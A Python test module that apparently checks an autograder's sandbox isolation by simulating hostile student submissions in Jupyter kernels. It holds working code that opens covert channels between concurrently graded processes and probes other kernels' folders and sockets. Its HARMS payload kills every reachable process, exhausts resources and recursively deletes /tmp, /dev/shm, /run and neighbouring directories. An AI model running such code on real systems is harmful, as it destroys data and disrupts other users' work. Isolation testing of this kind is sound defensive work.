"""Attacks by two students who are graded at the same time: they try to meet, or to do harm.

Their names sort before all others, so that both are graded first, side by side.
"""

from attack import Attack, probes

SECONDS = 12  # how long both try

CHANNELS = f"""
import ctypes, mmap, select, signal, socket, struct, threading, time
from ipykernel.connect import get_connection_file
libc = ctypes.CDLL(None, use_errno=True)
WORD = b"met-" + b"a-friend"
started, SECONDS = time.time(), {SECONDS}
places = ["/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", "/run/lock", "/",
          os.path.expanduser("~"), os.getcwd()]
here = os.path.dirname(get_connection_file())
for _ in range(4):
    places.append(here)
    here = os.path.dirname(here)
KEY, ALL = 0x57325641, 0o666
ADD_KEY, KEYCTL = 248, 250
RINGS = (-3, -4, -5)
"""

GIVES = """
keep = []
def give():
    for folder in places:
        try:
            with open(f"{folder}/w2v-attack-meeting", "wb") as file:
                file.write(WORD)
        except OSError:
            pass
    for ring in RINGS:
        libc.syscall(ADD_KEY, b"user", b"w2v-attack-meeting", WORD, len(WORD), ring)
    shared = libc.shmget(KEY, 4096, ALL | 0o1000)
    libc.shmat.restype = ctypes.c_void_p
    if shared >= 0:
        ctypes.memmove(libc.shmat(shared, None, 0), WORD, len(WORD))
    queue = libc.msgget(KEY, ALL | 0o1000)
    if queue >= 0:
        libc.msgsnd(queue, struct.pack("l", 1) + WORD, len(WORD), 0)
    libc.semget(KEY, 1, ALL | 0o1000)
    posix = libc.mq_open(b"/w2v-attack-meeting", 0o102, ALL, None)
    if posix >= 0:
        libc.mq_send(posix, WORD, len(WORD), 0)
    for family, address in ((socket.AF_UNIX, "\\0w2v-attack-meeting"),
                            (socket.AF_UNIX, f"{places[-4]}/w2v-attack-socket"),
                            (socket.AF_INET, ("0.0.0.0", 45771))):
        try:
            its = socket.socket(family)
            its.bind(address)
            its.listen()
            keep.append(its)
        except OSError:
            pass
give()
def serve():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        out.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        while time.time() < started + SECONDS:
            for its in select.select(keep, [], [], 0.2)[0]:
                other, _ = its.accept()
                other.sendall(WORD)
                other.close()
            for address in ("127.255.255.255", "255.255.255.255", "224.0.0.251"):
                trial(out.sendto, WORD, (address, 45772))
serve()
"""
TAKES = """
def take(found):
    for folder in places:
        try:
            with open(f"{folder}/w2v-attack-meeting", "rb") as file:
                found += [f"file in {folder}"] * (file.read() == WORD)
        except OSError:
            pass
    for ring in RINGS:
        key = libc.syscall(KEYCTL, 10, ring, b"user", b"w2v-attack-meeting", 0)
        found += ["keyring"] * (key > 0)
    found += ["shared memory"] * (libc.shmget(KEY, 4096, 0) >= 0)
    found += ["message queue"] * (libc.msgget(KEY, 0) >= 0)
    found += ["semaphore"] * (libc.semget(KEY, 1, 0) >= 0)
    found += ["posix queue"] * (libc.mq_open(b"/w2v-attack-meeting", 0) >= 0)
    for family, address in ((socket.AF_UNIX, "\\0w2v-attack-meeting"),
                            (socket.AF_INET, ("127.0.0.1", 45771))):
        with socket.socket(family) as its:
            its.settimeout(0.3)
            found += [f"{address!r}"] * bool(trial(its.connect, address))
    try:
        names = open("/proc/net/unix").read()
        found += ["unix names"] * ("w2v-attack-meeting" in names)
    except OSError:
        pass
    for pid in filter(str.isdigit, os.listdir("/proc")):
        if b"w2v-attack-gives" in look_any(f"/proc/{pid}/environ"):
            found.append(f"process {pid}")

def look_any(path):
    try:
        return open(path, "rb").read()
    except OSError:
        return b""

with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as ear:
    ear.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ear.bind(("0.0.0.0", 45772))
    ear.settimeout(0.3)
    while time.time() < started + SECONDS:
        take(found)
        try:
            found += ["broadcast"] * (ear.recv(99) == WORD)
        except OSError:
            pass
"""
# The answer tells from when to when it looked, so that the test sees that both were there.
TIMES = """
def full_sigmoid_loss(*_):
    raise ValueError(f"there from {started:.0f} to {time.time():.0f} s")
"""

HARMS = f"""
import ctypes, shutil, signal, time
from ipykernel.connect import get_connection_file
libc = ctypes.CDLL(None, use_errno=True)
started = time.time()
keep = []
def use_up():  # what the system counts for a user, not for a process
    import fcntl, socket
    for _ in range(60):
        keep.append(os.pipe())
        fcntl.fcntl(keep[-1][0], 1031, 1 << 20)
    one, two = socket.socketpair()
    keep.append((one, two))
    for _ in range(200):
        socket.send_fds(one, [b"x"], [one.fileno()] * 250, socket.MSG_DONTWAIT)
def use_up_more():
    for number in range(300):
        libc.inotify_init()
        libc.syscall(248, b"user", b"w2v-attack-%d" % number, b"x" * 100, 100, -3)
        libc.mq_open(b"/w2v-attack-%d" % number, 0o102, 0o600, None)
trial(use_up)
trial(use_up_more)
own = {{os.getpid(), os.getppid(), os.getpgrp()}}
here = os.path.dirname(get_connection_file())
while time.time() < started + {SECONDS}:
    for pid in range(2, 6000):
        if pid not in own:
            trial(os.kill, pid, signal.SIGKILL)
            trial(os.killpg, pid, signal.SIGSTOP)
    for number in range(64):
        for remove in (libc.shmctl, libc.msgctl):
            remove(number, 0, None)
        libc.semctl(number, 0, 0)
    outer = os.path.dirname(here)
    for folder in (outer, os.path.dirname(outer), "/tmp", "/dev/shm", "/run", "/dev/mqueue"):
        for name in os.listdir(folder) if os.path.isdir(folder) else []:
            path = os.path.join(folder, name)
            if not here.startswith(path):
                shutil.rmtree(path, ignore_errors=True)
                trial(os.unlink, path)
    time.sleep(0.2)
"""

# Folders of other kernels beside the own one, and sockets anywhere.
NEIGHBOURS = """
from ipykernel.connect import get_connection_file
own = os.path.dirname(get_connection_file())
found += [name for name in os.listdir(os.path.dirname(own)) if name != os.path.basename(own)]
"""
SOCKETS = """
import stat
for folder, folders, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", sys.prefix, sys.base_prefix, own)):
        folders.clear()
        continue
    for path in (os.path.join(folder, name) for name in files):
        found += [path] * stat.S_ISSOCK(os.lstat(path).st_mode)
"""

_takes = probes(channels=CHANNELS + TAKES)

ATTACKS = [
    Attack(
        "aa-gives",
        "offers a word on every channel that two processes may share",
        {"nce_loss": "import os\n" + CHANNELS + GIVES, "full_sigmoid_loss": TIMES},
        before=_takes["before"],
        honest=("negative_sampling_loss",),
    ),
    Attack(
        "ab-takes",
        "looks for the other one's word",
        {**_takes["cells"], "full_sigmoid_loss": TIMES},
        before=_takes["before"],
        shows=_takes["shows"],
        honest=("negative_sampling_loss",),
    ),
    Attack(
        "ad-looks-around",
        "other kernels' folders, keys and sockets",
        **probes(neighbours=NEIGHBOURS, sockets=SOCKETS),
    ),
    Attack(
        "ac-harms",
        "kills, removes and deletes whatever is in reach, while an honest student is graded",
        {"nce_loss": HARMS},
        before=_takes["before"],
        honest=("negative_sampling_loss",),
    ),
]
